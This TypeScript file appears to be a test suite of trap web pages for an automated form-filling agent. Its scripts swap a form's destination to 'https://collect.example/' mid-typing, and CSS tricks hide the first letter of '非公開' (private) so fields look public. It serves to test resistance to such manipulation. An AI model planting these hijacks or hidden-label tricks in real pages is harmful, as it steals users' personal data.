import { fields, honest, type Seen, type Trap } from './trap';

const { name, mail, link } = fields;
const rows = name + mail + link;
const script = (what: string) => `<script>${what}</script>`;
const sink = '<form id="g" method="post" action="OTHER"><button>送信</button></form>';

const exchanging = (what: string, act: string, more = ''): Trap => ({
  name: `a form whose ${what} as its last box is written`,
  html: `<form id="f" method="post" action="/sent">${rows}<button id="go">送信</button></form>${more}${script(act)}`,
  told: 'that it sends elsewhere now',
  fault: ({ stopped }) => (stopped?.why === 'exchanged' ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
});

const evil = "'https://collect.example/'";

const elsewhere: readonly Trap[] = [
  exchanging('action is exchanged', `c.addEventListener('input',()=>{f.action=${evil}})`),
  exchanging('action is exchanged by the change', `c.addEventListener('change',()=>{f.action=${evil}})`),
  exchanging(
    'action is exchanged a little later,',
    `c.addEventListener('input',()=>setTimeout(()=>{f.action=${evil}},200))`,
  ),
  exchanging('button gets an address', `c.addEventListener('input',()=>{go.formAction=${evil}})`),
  exchanging(
    'buttons get another one',
    `c.addEventListener('change',()=>f.insertAdjacentHTML('beforeend','<button formaction=https://collect.example/ >送信</button>'))`,
  ),
  exchanging(
    'boxes go to a form of another host',
    `c.addEventListener('input',()=>[a,b,c].forEach((each)=>each.setAttribute('form','g')))`,
    sink.replace('OTHER', 'https://collect.example/'),
  ),
  exchanging(
    'boxes go to another form of its own host',
    `c.addEventListener('input',()=>setTimeout(()=>[a,b,c].forEach((each)=>each.setAttribute('form','g')),200))`,
    sink.replace('OTHER', '/comments'),
  ),
];

const left = (what: string, html: string, style = ''): Trap => ({
  name: `a box of another kind, told by ${what}`,
  html: `<style>${style}</style>${html}`,
  told: 'left empty, and the honest fields filled',
  fault({ values }: Seen) {
    if (values['t']) return `got ${values['t']}`;
    return values['b'] === honest.email ? undefined : 'the honest field was not filled';
  },
});

const label = (words: string) => `<p><label class="l" for="t">${words}</label> <input id="t"></p>${mail}${link}`;
const box = '<p><label for="t">氏名</label> <input id="t"></p>';
const two = `${box}<p><label>電話番号 <input></label></p>`;
const drawing = (letters: string) =>
  `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='300' height='30'%3E${letters}%3C/svg%3E`;
const strokes = drawing("%3Cpath d='M2 2h90v14H2z'/%3E");
const first = (style: string) => `.l{display:inline-block}.l::first-letter{${style}}`;

const unread: readonly Trap[] = [
  left('a label whose first letter has no size', label('非公開のお名前'), first('font-size:0')),
  left('a label whose first letter is clear', label('非公開のお名前'), first('color:transparent')),
  left('a label whose first letter has the colour of its ground', label('非公開のお名前'), first('color:#fff')),
  left('a label whose first letter lies under the next', label('非公開のお名前'), first('letter-spacing:-16px')),
  left('a label whose first letter is a picture', label('氏名'), first(`background:url("${strokes}")`)),
  left(
    'the first letter of the block of its label',
    label('非公開のお名前').replaceAll('class="l"', '').replace('<p>', '<p class="l">'),
    first('font-size:0'),
  ),
  left(
    'a legend whose first letter has no size',
    `<fieldset><legend class="l">非公開の情報</legend>${two}</fieldset>${mail}${link}`,
    first('font-size:0'),
  ),
  left('a picture as the heading of its block', `<section><img alt="" src="${strokes}">${two}</section>${mail}${link}`),
  left(
    'a ground as the heading of its block',
    `<div style="border:1px solid"><div style="height:40px;width:300px;background:url(&quot;${strokes}&quot;) no-repeat"></div>${two}</div>${mail}${link}`,
  ),
  left(
    'the ground of an empty title',
    `<form><h2 style="height:40px;background:url(&quot;${strokes}&quot;) no-repeat"></h2>${two}</form>${mail}${link}`,
  ),
  left(
    'the form for comments that it names',
    `<form action="/ok" method="post">${box.replace('id="t"', 'id="t" form="g"')}${mail}${link}</form><form id="g" action="/comments" method="post"><p><label>コメントを投稿 <textarea></textarea></label></p><button>コメントを公開</button></form>`,
  ),
  left('the word that it is a public name', label('公開のお名前')),
  left('the word that it is a public name, in English', label('Public name')),
];

/** Forms that change at the last box, and boxes whose words or forms are not what they seem. */
export const lateTraps: readonly Trap[] = [...elsewhere, ...unread];

const form = (what: string, html: string, style = ''): Trap => ({
  name: `an honest form with ${what}`,
  html: `<style>${style}</style>${html}`,
  told: 'filled',
  fault({ values, stopped }) {
    if (stopped) return `stopped: ${stopped.why}`;
    if (values['b']?.toLowerCase() !== honest.email) return `the mail is ${values['b']}`;
    return values['a'] === honest.name ? undefined : `the name is ${values['a']}`;
  },
});
const onBlur = (id: string, value: string) => script(`${id}.addEventListener('blur',()=>{${id}.value=${value}})`);

/** Their honest twins. */
export const honestTwins: readonly Trap[] = [
  form(
    'drop caps',
    `<p><label class="l" for="a">氏名</label> <input id="a"></p>${mail}`,
    first('font-size:150%;color:#a00;font-weight:700'),
  ),
  form(
    'drop caps on a ground',
    `<p><label class="l" for="a">氏名</label> <input id="a"></p>${mail}`,
    first('color:#fff;background:#a00;padding:2px;margin-right:2px'),
  ),
  form(
    'blocks whose spaces have no size',
    `<div style="font-size:0"><p style="font-size:16px;margin:9px"><label>氏名 <input id="a"></label></p></div>${mail}`,
  ),
  form(
    'drop caps in its legend',
    `<fieldset><legend class="l">お客様の情報</legend>${rows}</fieldset>`,
    first('font-size:200%;float:left'),
  ),
  form('a named logo over its boxes', `<form method="post"><img alt="見本株式会社" src="${strokes}">${rows}</form>`),
  form(
    'a logo above its title',
    `<form method="post"><img alt="" src="${strokes}"><h2>お客様の情報</h2>${rows}</form>`,
  ),
  form(
    'a logo above its first words',
    `<form method="post"><img alt="" src="${strokes}"><p>次の項目にご記入ください。</p>${rows}</form>`,
  ),
  form(
    'an icon beside its legend',
    `<fieldset><legend><img alt="" width="20" height="20" src="${strokes}"> お客様の情報</legend>${rows}</fieldset>`,
  ),
  form('a rule of a picture', `<form method="post"><img alt="" width="600" height="4" src="${strokes}">${rows}</form>`),
  form(
    'a banner before it',
    `<div><img alt="" width="600" height="60" src="${strokes}"></div><form method="post">${rows}</form>`,
  ),
  form(
    'boxes that all name it',
    `<form id="f" method="post" action="/ok"></form>${rows.replaceAll('<input', '<input form="f"')}`,
  ),
  form(
    'a button for another page of its own',
    `<form id="f" method="post" action="/ok">${rows}</form>${script("c.addEventListener('input',()=>f.insertAdjacentHTML('beforeend','<button formaction=/back>戻る</button>'))")}`,
  ),
  form('a mail that the page writes in capitals', rows + onBlur('b', 'b.value.toUpperCase()')),
  form('an address without its scheme', rows + onBlur('c', "c.value.replace('https://','')")),
];
